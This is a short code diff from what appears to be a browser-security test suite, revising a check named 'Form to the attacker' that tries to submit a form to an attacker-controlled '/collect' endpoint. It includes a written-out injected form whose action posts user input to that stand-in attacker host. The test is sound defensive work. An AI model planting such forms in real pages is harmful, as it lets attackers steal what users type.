@@ -117,12 +117,15 @@ export const attacks: readonly Attack[] = [
     id: 'form',
     title: 'Form to the attacker',
     aim: 'A form slipped into the page posts what you type to the attacker.',
-    run: async ({ attacker }) => [
-      judge(
-        `<form action="${attacker}/collect">`,
-        await tryIt(attacker, () => sendForm(`${attacker}/collect?by=form`)),
-      ),
-    ],
+    run: async ({ attacker }) => {
+      const signal = await tryIt(attacker, (through) => {
+        first(messagesFrom(attacker), (data) => (has(data, 'loaded') ? true : undefined)).then(
+          (loaded) => loaded && through(),
+        )
+        sendForm(`${attacker}/collect?by=form`)
+      })
+      return [judge(`<form action="${attacker}/collect">`, signal)]
+    },
   },
   {
     id: 'framing',
